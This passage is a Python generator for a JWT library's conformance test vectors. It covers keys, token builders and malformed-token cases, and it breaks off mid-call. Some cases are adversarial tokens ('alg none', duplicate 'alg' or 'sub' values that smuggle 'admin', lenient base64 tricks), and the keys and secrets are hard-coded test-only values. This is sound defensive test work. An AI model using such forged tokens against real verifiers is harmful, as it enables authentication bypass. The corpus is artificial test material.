#!/usr/bin/env python3
"""Rebuild the onejwt conformance corpus (tests/vectors/<group>/<case>.json).

How to run (from the repository root, Python 3.11):

    python3 -m venv .venv
    .venv/bin/pip install -r tests/vectors/requirements.txt
    .venv/bin/python tests/vectors/generate.py
    .venv/bin/python tests/vectors/generate.py --only adversarial   # just these group(s)

What it does:

* Test keys live in tests/vectors/keys/ (committed, test-only, never real secrets; see keys/README.md). Each key is generated
  once, the first time this script runs, and reused afterwards: the private PKCS#8 PEM is the source of truth
  and every other form (PKCS#1, SEC1, SPKI, JWK, certificate ...) is derived from it when missing.
* Every token is produced by tools that are independent of onejwt: PyJWT (jwt.encode and its algorithm
  objects) and, for deliberately broken tokens, hand-made base64url + JSON signed through PyJWT's algorithm
  objects or `cryptography` directly.
* All group folders are deleted and rewritten on each run. HS*, RS*, EdDSA cases are byte-for-byte
  deterministic; ES* and PS* signatures are randomised and change between runs (that is expected).
* `--only adversarial` (comma-separated group names, e.g. `--only adversarial,crit`) builds and rewrites only
  those groups' folders and leaves every other folder as it is, so adding a group does not re-sign the rest.
* Before writing, each case is cross-checked: success cases must verify with PyJWT/cryptography and decode to
  the expected claims; `invalid_signature` cases must fail with them. A summary (cases per group) is printed.

The case schema and the order of checks are defined in tests/vectors/README.md.
"""

from __future__ import annotations

import base64
import copy
import datetime
import hashlib
import hmac as hmac_mod
import json
import re
import shutil
import sys
import warnings
from collections import Counter
from pathlib import Path

import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import dsa, ec, ed448, ed25519, padding, rsa, x25519
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.x509.oid import NameOID
from service_cases import service_cases  # sibling module: the TokenService cases

warnings.simplefilter("ignore")  # PyJWT warns about short HMAC keys we use on purpose

HERE = Path(__file__).resolve().parent
KEYS = HERE / "keys"

NOW = 1700000000  # 2023-11-14T22:13:20Z, the clock of every verify case unless stated
ALGS = jwt.algorithms.get_default_algorithms()  # PyJWT's algorithm objects (independent signer)
ALGS["Ed25519"] = ALGS["EdDSA"]  # RFC 9864's fully specified name for EdDSA over Ed25519 (PyJWT 2.15 lacks it)
IMPLEMENTED = ["HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512",
               "ES256", "ES384", "ES512", "EdDSA", "Ed25519"]
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
NAME_RE = re.compile(r"[a-z0-9]+(-[a-z0-9]+)*")
ERROR_CODES = {"malformed", "token_too_large", "unsupported_algorithm", "algorithm_not_allowed",
               "key_not_found", "invalid_key", "invalid_signature", "expired", "not_yet_valid",
               "invalid_issuer", "invalid_audience", "missing_claim", "invalid_claim", "wrong_token_type",
               "revoked"}


# ----------------------------------------------------------------------------------------------------------
# encoding helpers
# ----------------------------------------------------------------------------------------------------------

def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64u_dec(text: str) -> bytes:
    """Lenient decoder, only for the generator's own cross-checks."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def cjson(obj, ascii_only: bool = True) -> bytes:
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=ascii_only).encode("utf-8")


def int_b64(value: int, length: int | None = None) -> str:
    length = length or (value.bit_length() + 7) // 8
    return b64u(value.to_bytes(length, "big"))


def as_bytes(part) -> bytes:
    if isinstance(part, bytes):
        return part
    if isinstance(part, str):
        return part.encode("utf-8")
    return cjson(part)


# ----------------------------------------------------------------------------------------------------------
# keys (generated once into tests/vectors/keys/, then reused)
# ----------------------------------------------------------------------------------------------------------

RSA_KEYS = {"rsa2048": 2048, "rsa2048-b": 2048, "rsa1024": 1024, "rsa4096": 4096}
EC_KEYS = {"p256": ec.SECP256R1(), "p256-b": ec.SECP256R1(), "p384": ec.SECP384R1(), "p521": ec.SECP521R1(),
           "secp256k1": ec.SECP256K1()}
EC_CRV = {"secp256r1": "P-256", "secp384r1": "P-384", "secp521r1": "P-521", "secp256k1": "secp256k1"}
OKP_KEYS = {"ed25519": "Ed25519", "ed25519-b": "Ed25519", "ed448": "Ed448", "x25519": "X25519"}
DSA_KEYS = {"dsa2048": 2048}
ENC_PASSWORD = b"onejwt-test-password"

HMAC_DEFAULTS = {
    "s16": "short-secret-16b",
    "s31": "onejwt-test-hs256-secret-31byte",
    "s32": "onejwt-test-hs256-secret-32bytes",
    "s32_other": "another-hs256-test-secret-32-byt",
    "s48": "onejwt-test-hs384-secret-that-is-48-bytes-long!!",
    "s64": "onejwt-test-hs512-secret-that-is-exactly-sixty-four-bytes-long!!",
}

PRIV: dict = {}   # name -> cryptography private key
PEM: dict = {}    # (name, form) -> PEM text
JWK_PUB: dict = {}
JWK_PRIV: dict = {}
SECRET: dict = {}
SSH: dict = {}


def _write_if_missing(path: Path, text: str) -> str:
    if not path.exists():
        path.write_text(text, encoding="utf-8")
    return path.read_text(encoding="utf-8")


def _priv_pem(key, fmt) -> str:
    return key.private_bytes(serialization.Encoding.PEM, fmt, serialization.NoEncryption()).decode()


def _pub_pem(key, fmt) -> str:
    return key.public_bytes(serialization.Encoding.PEM, fmt).decode()


def _jwk_pair(key):
    if isinstance(key, rsa.RSAPrivateKey):
        pn = key.private_numbers()
        pub = {"kty": "RSA", "n": int_b64(pn.public_numbers.n), "e": int_b64(pn.public_numbers.e)}
        priv = dict(pub, d=int_b64(pn.d), p=int_b64(pn.p), q=int_b64(pn.q), dp=int_b64(pn.dmp1),
                    dq=int_b64(pn.dmq1), qi=int_b64(pn.iqmp))
        return pub, priv
    if isinstance(key, ec.EllipticCurvePrivateKey):
        size = (key.curve.key_size + 7) // 8
        pn = key.private_numbers()
        pub = {"kty": "EC", "crv": EC_CRV[key.curve.name], "x": int_b64(pn.public_numbers.x, size),
               "y": int_b64(pn.public_numbers.y, size)}
        return pub, dict(pub, d=int_b64(pn.private_value, size))
    raw = serialization.Encoding.Raw
    if isinstance(key, (ed25519.Ed25519PrivateKey, ed448.Ed448PrivateKey, x25519.X25519PrivateKey)):
        crv = {ed25519.Ed25519PrivateKey: "Ed25519", ed448.Ed448PrivateKey: "Ed448",
               x25519.X25519PrivateKey: "X25519"}
        crv_name = next(v for k, v in crv.items() if isinstance(key, k))
        x = key.public_key().public_bytes(raw, serialization.PublicFormat.Raw)
        d = key.private_bytes(raw, serialization.PrivateFormat.Raw, serialization.NoEncryption())
        pub = {"kty": "OKP", "crv": crv_name, "x": b64u(x)}
        return pub, dict(pub, d=b64u(d))
    raise TypeError(key)


def _self_signed_cert(key, name: str) -> str:
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"onejwt test key {name}")])
    cert = (x509.CertificateBuilder()
            .subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(0x0A1B2C3D4E5F)
            .not_valid_before(datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc))
            .not_valid_after(datetime.datetime(2044, 1, 1, tzinfo=datetime.timezone.utc))
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .sign(key, hashes.SHA256()))
    return cert.public_bytes(serialization.Encoding.PEM).decode()


KEYS_README = """# Test keys

Test-only keys and secrets for the conformance corpus, generated once by `tests/vectors/generate.py` and reused.
They protect nothing and must never be used anywhere else.

* `<name>.private.pkcs8.pem` is the source of every other form: `.private.pkcs1.pem` / `.public.pkcs1.pem` (RSA),
  `.private.sec1.pem` (EC), `.public.spki.pem`, `.cert.pem` (self-signed X.509, rsa2048 and rsa2048-b),
  `.public.jwk` / `.private.jwk` (JWK as JSON; the extension is not `.json` so that no corpus runner globbing
  `*/*.json` mistakes them for cases).
* `rsa2048.private.pkcs8.encrypted.pem` uses the password `onejwt-test-password`.
* `hmac-secrets.txt`: one `name secret` pair per line (ASCII secrets of 16, 31, 32, 48 and 64 bytes).
* Keys: rsa2048, rsa2048-b (wrong-key cases), rsa1024 (weak), rsa4096, p256, p256-b, p384, p521 and secp256k1
  (unsupported curves), ed25519, ed25519-b, ed448 (unsupported), x25519 (not a signature key), dsa2048.
"""


def load_or_create_keys() -> None:
    KEYS.mkdir(parents=True, exist_ok=True)
    pkcs8 = serialization.PrivateFormat.PKCS8
    spki = serialization.PublicFormat.SubjectPublicKeyInfo

    def private(name, make):
        path = KEYS / f"{name}.private.pkcs8.pem"
        if not path.exists():
            path.write_text(_priv_pem(make(), pkcs8), encoding="utf-8")
        text = path.read_text(encoding="utf-8")
        key = serialization.load_pem_private_key(text.encode(), password=None)
        PRIV[name] = key
        PEM[(name, "pkcs8")] = text
        PEM[(name, "spki")] = _write_if_missing(KEYS / f"{name}.public.spki.pem",
                                                _pub_pem(key.public_key(), spki))
        return key

    def jwks_files(name, key):
        pub, priv = _jwk_pair(key)
        JWK_PUB[name] = json.loads(_write_if_missing(KEYS / f"{name}.public.jwk",
                                                     json.dumps(pub, indent=2) + "\n"))
        JWK_PRIV[name] = json.loads(_write_if_missing(KEYS / f"{name}.private.jwk",
                                                      json.dumps(priv, indent=2) + "\n"))

    for name, bits in RSA_KEYS.items():
        key = private(name, lambda bits=bits: rsa.generate_private_key(public_exponent=65537, key_size=bits))
        PEM[(name, "pkcs1")] = _write_if_missing(KEYS / f"{name}.private.pkcs1.pem",
                                                 _priv_pem(key, serialization.PrivateFormat.TraditionalOpenSSL))
        PEM[(name, "pub-pkcs1")] = _write_if_missing(KEYS / f"{name}.public.pkcs1.pem",
                                                     _pub_pem(key.public_key(), serialization.PublicFormat.PKCS1))
        jwks_files(name, key)
    for name in ("rsa2048", "rsa2048-b"):
        PEM[(name, "cert")] = _write_if_missing(KEYS / f"{name}.cert.pem", _self_signed_cert(PRIV[name], name))
    enc = KEYS / "rsa2048.private.pkcs8.encrypted.pem"
    if not enc.exists():
        enc.write_text(PRIV["rsa2048"].private_bytes(
            serialization.Encoding.PEM, pkcs8, serialization.BestAvailableEncryption(ENC_PASSWORD)).decode(),
            encoding="utf-8")
    PEM[("rsa2048", "pkcs8-encrypted")] = enc.read_text(encoding="utf-8")

    for name, curve in EC_KEYS.items():
        key = private(name, lambda curve=curve: ec.generate_private_key(curve))
        PEM[(name, "sec1")] = _write_if_missing(KEYS / f"{name}.private.sec1.pem",
                                                _priv_pem(key, serialization.PrivateFormat.TraditionalOpenSSL))
        jwks_files(name, key)

    makers = {"Ed25519": ed25519.Ed25519PrivateKey.generate, "Ed448": ed448.Ed448PrivateKey.generate,
              "X25519": x25519.X25519PrivateKey.generate}
    for name, crv in OKP_KEYS.items():
        key = private(name, makers[crv])
        jwks_files(name, key)

    for name, bits in DSA_KEYS.items():
        private(name, lambda bits=bits: dsa.generate_private_key(key_size=bits))

    for name in ("rsa2048", "ed25519"):
        SSH[name] = PRIV[name].public_key().public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode() + " test@onejwt"

    path = KEYS / "hmac-secrets.txt"  # one "name secret" pair per line
    _write_if_missing(path, "".join(f"{k} {v}\n" for k, v in HMAC_DEFAULTS.items()))
    for line in path.read_text(encoding="utf-8").splitlines():
        if line.strip():
            name, value = line.split(" ", 1)
            SECRET[name] = value
    for name, length in (("s16", 16), ("s31", 31), ("s32", 32), ("s32_other", 32), ("s48", 48), ("s64", 64)):
        assert len(SECRET[name].encode()) == length, name

    readme = KEYS / "README.md"
    _write_if_missing(readme, KEYS_README)

    # sanity: our JWK encoder agrees with PyJWT's JWK parser
    for name, pub in JWK_PUB.items():
        if pub["kty"] == "RSA" or pub.get("crv") in ("P-256", "P-384", "Ed25519"):
            parsed = jwt.PyJWK(pub).key
            want = PRIV[name].public_key().public_bytes(serialization.Encoding.DER, spki)
            got = parsed.public_bytes(serialization.Encoding.DER, spki)
            assert want == got, name


# ----------------------------------------------------------------------------------------------------------
# token builders
# ----------------------------------------------------------------------------------------------------------

def signer(alg: str, key=None):
    """Default private key (or secret bytes) for an algorithm; a name picks a stored key."""
    if isinstance(key, str) and key in PRIV:
        return PRIV[key]
    if isinstance(key, str):
        return key.encode("utf-8")
    if key is not None:
        return key
    if alg.startswith("HS"):
        return {"HS256": SECRET["s32"], "HS384": SECRET["s48"], "HS512": SECRET["s64"]}[alg].encode()
    if alg[:2] in ("RS", "PS"):
        return PRIV["rsa2048"]
    return {"ES256": PRIV["p256"], "ES384": PRIV["p384"], "ES512": PRIV["p521"], "EdDSA": PRIV["ed25519"],
            "Ed25519": PRIV["ed25519"]}[alg]


def sign_raw(alg: str, msg: bytes, key=None) -> bytes:
    """Signature bytes from PyJWT's algorithm object (ES* give raw r||s)."""
    return ALGS[alg].sign(msg, signer(alg, key))


def build(header, payload, alg=None, key=None, sig=None) -> str:
    """Compact token from a header/payload given as dicts (compact JSON) or raw bytes/text."""
    signing_input = b64u(as_bytes(header)) + "." + b64u(as_bytes(payload))
    if sig is None:
        sig = sign_raw(alg or header["alg"], signing_input.encode(), key)
    return signing_input + "." + (sig if isinstance(sig, str) else b64u(sig))


def resign(h_seg: str, p_seg: str, alg: str = "HS256", key=None) -> str:
    """Sign the literal text `h_seg.p_seg` (used for deliberately broken segments)."""
    signing_input = f"{h_seg}.{p_seg}"
    return signing_input + "." + b64u(sign_raw(alg, signing_input.encode(), key))


def pyjwt(claims: dict, alg: str = "HS256", key=None, headers=None) -> str:
    """A normal token made by PyJWT: header {"alg", "typ":"JWT"} plus `headers`, sorted keys."""
    return jwt.encode(claims, signer(alg, key), algorithm=alg, headers=headers, sort_headers=True)


def split(token: str):
    return token.split(".")


def ecdsa_raw(alg: str, msg: bytes, key) -> tuple[int, int]:
    h = hashes.SHA256() if alg == "ES256" else hashes.SHA384()
    return decode_dss_signature(key.sign(msg, ec.ECDSA(h)))


def noncanonical(seg: str) -> str:
    rem = len(seg) % 4
    assert rem in (2, 3), seg
    idx = ALPHABET.index(seg[-1])
    assert idx & (0xF if rem == 2 else 0x3) == 0
    return seg[:-1] + ALPHABET[idx | 1]


# ----------------------------------------------------------------------------------------------------------
# key forms
# ----------------------------------------------------------------------------------------------------------

def k_hmac(text: str) -> dict:
    return {"hmac": text}


def k_pem(name: str, form: str = "spki") -> dict:
    return {"pem": PEM[(name, form)]}


def jwk_of(name: str, private: bool = False, **extra) -> dict:
    base = copy.deepcopy(JWK_PRIV[name] if private else JWK_PUB[name])
    base.update(extra)
    return base


def k_jwk(name_or_dict, private: bool = False, **extra) -> dict:
    if isinstance(name_or_dict, dict):
        return {"jwk": name_or_dict}
    return {"jwk": jwk_of(name_or_dict, private, **extra)}


def oct_jwk(secret: bytes | str, **extra) -> dict:
    if isinstance(secret, str):
        secret = secret.encode()
    return dict({"kty": "oct", "k": b64u(secret)}, **extra)


def k_jwks(*keys) -> dict:
    return {"jwks": {"keys": list(keys)}}


def k_jwks_oct(*keys) -> dict:
    """A JWKS whose oct keys are used: KeySet.from_jwks(..., allow_oct=True) (skipped by default)."""
    return dict(k_jwks(*keys), options={"allow_oct": True})


def default_key(alg: str) -> dict:
    if alg.startswith("HS"):
        return k_hmac({"HS256": SECRET["s32"], "HS384": SECRET["s48"], "HS512": SECRET["s64"]}[alg])
    if alg[:2] in ("RS", "PS"):
        return k_pem("rsa2048")
    return k_pem({"ES256": "p256", "ES384": "p384", "ES512": "p521", "EdDSA": "ed25519", "Ed25519": "ed25519"}[alg])


# ----------------------------------------------------------------------------------------------------------
# the case registry
# ----------------------------------------------------------------------------------------------------------

CASES: dict = {}
UNSURE: list = []


def add(group, name, description, expect, *, token=None, token_repeat=None, key=None, options=None,
        now=NOW, kind="verify", sign=None, unsure=None):
    assert NAME_RE.fullmatch(name), name
    cid = f"{group}/{name}"
    assert cid not in CASES, cid
    assert len(expect) >= 1
    if "error" in expect:
        assert expect["error"] in ERROR_CODES, expect
    case = {"id": cid, "description": description, "kind": kind}
    if sign is not None:
        case["sign"] = sign
    if token is not None:
        case["token"] = token
    if token_repeat is not None:
        case["token_repeat"] = token_repeat
    if kind != "decode":
        if key is not None:
            case["key"] = key
        if options is not None:
            case["options"] = options
        if now is not None and (kind == "verify" or "claims" in expect):
            case["now"] = now
    case["expect"] = expect
    CASES[cid] = case
    if unsure:
        UNSURE.append((cid, unsure))
    return case


def opts(alg="HS256", **more) -> dict:
    algs = alg if isinstance(alg, list) else [alg]
    return dict({"algorithms": algs}, **more)


def claims_of(token: str) -> dict:
    return json.loads(b64u_dec(split(token)[1]))


def header_of(token: str) -> dict:
    return json.loads(b64u_dec(split(token)[0]))


def ok(group, name, description, token, key=None, options=None, claims=None, *, header=False, now=NOW,
       alg=None, unsure=None):
    alg = alg or header_of(token)["alg"]
    expect = {"claims": claims if claims is not None else claims_of(token)}
    if header:
        expect["header"] = header if isinstance(header, dict) else header_of(token)
    return add(group, name, description, expect, token=token, key=key or default_key(alg),
               options=options or opts(alg), now=now, unsure=unsure)


def err(group, name, description, code, token=None, key=None, options=None, *, now=NOW, token_repeat=None,
        unsure=None):
    alg = "HS256"
    if token is not None:
        try:
            alg = header_of(token)["alg"]
        except Exception:
            pass
    if not isinstance(alg, str) or alg not in IMPLEMENTED:
        alg = "HS256"
    return add(group, name, description, {"error": code}, token=token, token_repeat=token_repeat,
               key=key or default_key(alg), options=options or opts(alg), now=now, unsure=unsure)


def base_claims(**extra) -> dict:
    claims = {"sub": "user-123", "iat": NOW - 60, "exp": NOW + 3600}
    for k, v in extra.items():
        if v is None:
            claims.pop(k, None)
        else:
            claims[k] = v
    return claims


# ==========================================================================================================
# groups
# ==========================================================================================================

def g_structure():
    g = "structure"
    t0 = pyjwt(base_claims())
    h0, p0, s0 = split(t0)
    ok(g, "baseline-hs256-ok", "a well-formed HS256 token verifies and returns its claims and header", t0,
       header=True)

    # --- size -------------------------------------------------------------------------------------------
    big = None
    for kid_len in range(0, 4):
        for pad in range(12000, 12400):
            hdr = {"kid": "k" * kid_len} if kid_len else None
            t = pyjwt(base_claims(pad="x" * pad), headers=hdr)
            if len(t) == 16384:
                big = t
                break
        if big:
            break
    assert big and len(big.encode()) == 16384
    ok(g, "size-default-limit-exactly-16384-bytes-ok",
       "a valid token of exactly 16384 bytes (the default max_token_bytes) is accepted", big)
    err(g, "size-default-limit-16385-bytes-garbage", "16385 bytes is over the default limit: token_too_large "
        "is decided before any decoding, even for garbage", "token_too_large",
        token_repeat={"prefix": "", "fill": "A", "count": 16385})
    err(g, "size-default-limit-16384-bytes-garbage-is-malformed",
        "16384 bytes of garbage is within the default limit, so it reaches the structure check (one segment)",
        "malformed", token_repeat={"prefix": "", "fill": "A", "count": 16384})
    err(g, "size-over-limit-valid-header-prefix", "a valid header followed by 20000 payload characters is too "
        "large", "token_too_large", token_repeat={"prefix": h0 + ".", "fill": "A", "count": 20000})
    none_h = b64u(b'{"alg":"none"}')
    err(g, "size-over-limit-before-alg-check", "size is checked before the alg allow-list (alg none, 30000 "
        "bytes)", "token_too_large", token_repeat={"prefix": none_h + ".", "fill": "e", "count": 30000})
    ok(g, "size-custom-limit-exact-ok", "max_token_bytes equal to the token length accepts it", t0,
       options=opts(max_token_bytes=len(t0)))
    err(g, "size-custom-limit-one-over", "max_token_bytes one below the token length rejects it",
        "token_too_large", t0, options=opts(max_token_bytes=len(t0) - 1))
    err(g, "size-custom-limit-counts-utf8-bytes", "the limit counts UTF-8 bytes, not characters: the token plus "
        "'é' is len+1 characters but len+2 bytes, over a limit of len+1", "token_too_large", t0 + "é",
        options=opts(max_token_bytes=len(t0) + 1))
    err(g, "size-custom-limit-garbage-over-limit", "garbage over a custom limit is token_too_large",
        "token_too_large", "not a token at all", options=opts(max_token_bytes=10))

    # --- segments -----------------------------------------------------------------------------------------
    err(g, "segments-empty-token", "the empty string is not a compact JWS (RFC 7515 §7.1)", "malformed", "")
    err(g, "segments-one", "a single segment", "malformed", h0)
    err(g, "segments-two", "header.payload without signature segment", "malformed", f"{h0}.{p0}")
    err(g, "segments-four", "four segments", "malformed", f"{t0}.{s0}")
    err(g, "segments-trailing-dot", "a trailing '.' makes a fourth (empty) segment", "malformed", t0 + ".")
    jwe_h = b64u(b'{"alg":"RSA-OAEP","enc":"A256GCM"}')
    err(g, "segments-five-jwe-shaped", "a JWE-shaped token (5 segments, RFC 7516 §7.1) is not a JWS",
        "malformed", f"{jwe_h}.{b64u(b'k' * 32)}.{b64u(b'iv' * 6)}.{b64u(b'ciphertext')}.{b64u(b't' * 16)}")
    err(g, "segments-only-dots", "three empty segments", "malformed", "..")
    err(g, "segments-empty-header", "empty header segment decodes to no JSON", "malformed", f".{p0}.{s0}")
    err(g, "segments-empty-payload", "empty payload segment decodes to no JSON (not a JSON object)",
        "malformed", resign(h0, ""))
    err(g, "empty-signature-hs256", "an empty signature segment with alg HS256 is well-formed base64url but "
        "cannot match the MAC", "invalid_signature", f"{h0}.{p0}.")

    # --- base64url strictness -----------------------------------------------------------------------------
    hk = None
    for i in range(200):
        hk = b64u(cjson({"alg": "HS256", "kid": "k" * i, "typ": "JWT"}))
        if len(hk) % 4 == 2:
            break
    assert len(hk) % 4 == 2
    err(g, "base64-padding-in-header", "'=' padding is not allowed in base64url segments (RFC 7515 §2)",
        "malformed", resign(hk + "==", p0))
    pp = None
    for i in range(200):
        pp = b64u(cjson(base_claims(n=i)))
        if len(pp) % 4 == 3:
            break
    assert len(pp) % 4 == 3
    err(g, "base64-padding-in-payload", "'=' padding in the payload segment", "malformed", resign(h0, pp + "="))
    err(g, "base64-padding-in-signature", "'=' padding after a 32-byte HMAC (43 chars) is rejected even "
        "though lenient decoders accept it", "malformed", t0 + "=")
    for i in range(500):
        pl = b64u(cjson(base_claims(n=f"??>{i}")))
        if "-" in pl:
            break
    assert "-" in pl
    err(g, "base64-plus-in-payload", "standard-alphabet '+' instead of '-' in the payload", "malformed",
        resign(h0, pl.replace("-", "+")))
    for i in range(500):
        hh = b64u(cjson({"alg": "HS256", "kid": f"key-{i}?>", "typ": "JWT"}))
        if "_" in hh:
            break
    assert "_" in hh
    err(g, "base64-slash-in-header", "standard-alphabet '/' instead of '_' in the header", "malformed",
        resign(hh.replace("_", "/"), p0))
    for i in range(500):
        ts = pyjwt(base_claims(n=i))
        if "_" in split(ts)[2]:
            break
    assert "_" in split(ts)[2]
    err(g, "base64-slash-in-signature", "standard-alphabet '/' instead of '_' in the signature (a lenient "
        "decoder would verify this token)", "malformed", ts[:ts.rindex(".")] + "." + split(ts)[2].replace("_", "/"))
    err(g, "base64-noncanonical-signature", "the last signature character has non-zero unused bits; lenient "
        "decoders map it to the same MAC, strict base64url rejects it", "malformed",
        f"{h0}.{p0}.{noncanonical(s0)}")
    err(g, "base64-noncanonical-header", "non-zero unused bits in the header's last character", "malformed",
        resign(noncanonical(hk), p0))
    err(g, "base64-noncanonical-payload", "non-zero unused bits in the payload's last character", "malformed",
        resign(h0, noncanonical(pp)))
    t384 = pyjwt(base_claims(), "HS384")
    err(g, "base64-length-1-mod-4-signature", "a 65-character segment (length ≡ 1 mod 4) cannot be base64",
        "malformed", t384 + "A", key=default_key("HS384"), options=opts("HS384"))
    h4 = b64u(b'{"alg":"HS256","kid":"abc"}')
    assert len(h4) % 4 == 0
    err(g, "base64-length-1-mod-4-header", "a header segment of length ≡ 1 mod 4", "malformed",
        resign(h4 + "A", p0))
    err(g, "base64-invalid-char-header", "'*' is outside the base64url alphabet", "malformed",
        resign(h0[:5] + "*" + h0[6:], p0))
    err(g, "base64-invalid-char-signature", "'!' in the signature", "malformed", t0[:-1] + "!")
    err(g, "base64-non-ascii-char-payload", "a non-ASCII character in the payload segment", "malformed",
        resign(h0, p0[:10] + "é" + p0[10:]))
    err(g, "base64-nul-char-signature", "a NUL character in the signature", "malformed", t0[:-2] + "\u0000" +
        t0[-1])

    # --- whitespace ---------------------------------------------------------------------------------------
    err(g, "whitespace-leading-space", "a leading space is not trimmed", "malformed", " " + t0)
    err(g, "whitespace-trailing-space", "a trailing space is not trimmed", "malformed", t0 + " ")
    err(g, "whitespace-trailing-newline", "a trailing newline (as read from a file) is not trimmed",
        "malformed", t0 + "\n")
    err(g, "whitespace-trailing-crlf", "a trailing CRLF", "malformed", t0 + "\r\n")
    err(g, "whitespace-newline-inside-payload", "a line break inside the payload segment (MIME-style "
        "wrapping)", "malformed", resign(h0, p0[:20] + "\n" + p0[20:]))
    err(g, "whitespace-space-inside-signature", "a space inside the signature", "malformed",
        f"{h0}.{p0}.{s0[:10]} {s0[10:]}")
    err(g, "whitespace-tab-after-dot", "a tab after a separator", "malformed", f"{h0}.\t{p0}.{s0}")

    # --- JSON: header -------------------------------------------------------------------------------------
    for name, raw, why in [
        ("header-json-array", b'["alg","HS256"]', "a JSON array"),
        ("header-json-string", b'"HS256"', "a JSON string"),
        ("header-json-number", b"256", "a JSON number"),
        ("header-json-null", b"null", "JSON null"),
        ("header-invalid-json", b'{"alg":"HS256",}', "invalid JSON (trailing comma)"),
        ("header-trailing-garbage", b'{"alg":"HS256"}x', "a JSON object followed by garbage"),
        ("header-two-objects", b'{"alg":"HS256"}{"typ":"JWT"}', "two concatenated JSON objects"),
        ("header-invalid-utf8", b'{"alg":"HS256","kid":"\xff\xfe"}', "invalid UTF-8 bytes"),
    ]:
        err(g, name, f"the header must be a UTF-8 JSON object (RFC 7515 §5.2): {why}", "malformed",
            resign(b64u(raw), p0))

    # --- JSON: payload ------------------------------------------------------------------------------------
    for name, raw, why in [
        ("payload-json-array", b'[{"sub":"user-123"}]', "a JSON array"),
        ("payload-json-string", b'"user-123"', "a JSON string"),
        ("payload-json-number", b"1700000000", "a JSON number"),
        ("payload-json-true", b"true", "JSON true"),
        ("payload-json-null", b"null", "JSON null"),
        ("payload-plain-text", b"hello world", "plain text"),
        ("payload-single-quotes", b"{'sub':'user-123'}", "single-quoted pseudo-JSON"),
        ("payload-trailing-comma", b'{"sub":"user-123",}', "a trailing comma"),
        ("payload-trailing-garbage", b'{"sub":"user-123"}garbage', "trailing garbage"),
        ("payload-two-objects", b'{"sub":"a"}{"sub":"b"}', "two concatenated objects"),
        ("payload-unquoted-key", b'{sub:"user-123"}', "an unquoted member name"),
        ("payload-invalid-utf8", b'{"sub":"\xff"}', "the byte 0xFF (invalid UTF-8)"),
        ("payload-overlong-utf8", b'{"sub":"\xc0\xaf"}', "an overlong UTF-8 sequence"),
        ("payload-utf8-surrogate-bytes", b'{"sub":"\xed\xa0\x80"}', "a UTF-8-encoded surrogate (CESU)"),
        ("payload-lone-high-surrogate-escape", b'{"sub":"\\ud800"}', "a lone high surrogate escape"),
        ("payload-lone-low-surrogate-escape", b'{"sub":"\\udc00"}', "a lone low surrogate escape"),
        ("payload-reversed-surrogate-pair", b'{"sub":"\\ude00\\ud83d"}', "a reversed surrogate pair"),
        ("payload-number-overflow", b'{"sub":"u","n":1e400}', "the number 1e400 (out of range)"),
        ("payload-nan-literal", b'{"sub":"u","n":NaN}', "the NaN literal"),
        ("payload-leading-zero-number", b'{"sub":"u","n":01}', "a number with a leading zero"),
        ("payload-invalid-escape", b'{"sub":"\\x41"}', "an invalid escape \\x"),
        ("payload-raw-control-char", b'{"sub":"a\x01b"}', "an unescaped control character in a string"),
    ]:
        err(g, name, f"the payload must be a UTF-8 JSON object (RFC 7519 §7.2): {why}", "malformed",
            resign(h0, b64u(raw)))
    err(g, "payload-utf8-bom", "a UTF-8 byte order mark before the JSON text (RFC 8259 §8.1: not to be "
        "added to networked JSON)", "malformed", resign(h0, b64u(b'\xef\xbb\xbf{"sub":"user-123"}')),
        unsure="BOM before JSON: chose malformed (serde_json rejects it)")
    raw = '{"sub":"\\ud83d\\ude00 ok"}'
    ok(g, "payload-surrogate-pair-escape-ok", "an escaped surrogate pair is a valid character",
       resign(h0, b64u(raw.encode())), claims={"sub": "😀 ok"})
    raw = '{"sub":"Zoë","city":"東京"}'.encode("utf-8")
    ok(g, "payload-raw-utf8-ok", "raw (unescaped) UTF-8 in the payload", resign(h0, b64u(raw)),
       claims={"sub": "Zoë", "city": "東京"})
    ok(g, "payload-surrounding-whitespace-ok", "JSON whitespace around and inside the object is allowed",
       resign(h0, b64u(b' \r\n{ "sub" : "user-123" ,\n "exp" : 1700003600 }\n ')),
       claims={"sub": "user-123", "exp": NOW + 3600})
    ok(g, "payload-empty-object-ok", "an empty claims object is a valid JWT", resign(h0, b64u(b"{}")),
       claims={})

    # --- duplicates ---------------------------------------------------------------------------------------
    for name, part, raw, why in [
        ("duplicate-header-alg-same-value", "h", b'{"alg":"HS256","alg":"HS256"}', "alg twice, same value"),
        ("duplicate-header-alg-different-values", "h", b'{"alg":"none","alg":"HS256"}',
         "alg twice (none then HS256): parsers disagree which wins"),
        ("duplicate-header-typ", "h", b'{"alg":"HS256","typ":"JWT","typ":"at+jwt"}', "typ twice"),
        ("duplicate-payload-sub", "p", b'{"sub":"alice","sub":"admin"}', "sub twice"),
        ("duplicate-payload-exp", "p", b'{"sub":"u","exp":1,"exp":1700003600}',
         "exp twice (expired first, valid last)"),
        ("duplicate-nested-object", "p", b'{"sub":"u","ctx":{"role":"user","role":"admin"}}',
         "a duplicate inside a nested object"),
        ("duplicate-in-object-in-array", "p", b'{"sub":"u","items":[{"id":1},{"id":2,"id":3}]}',
         "a duplicate inside an object inside an array"),
        ("duplicate-via-escape", "p", b'{"sub":"alice","\\u0073ub":"admin"}',
         "'sub' and its escaped spelling '\\u0073ub' are the same member name after unescaping"),
    ]:
        tok = resign(b64u(raw), p0) if part == "h" else resign(h0, b64u(raw))
        err(g, name, f"duplicate member names are rejected (RFC 7515 §5.2 / RFC 7519 §4): {why}", "malformed",
            tok)
    ok(g, "distinct-case-member-names-ok", "'sub' and 'Sub' are different names, not duplicates",
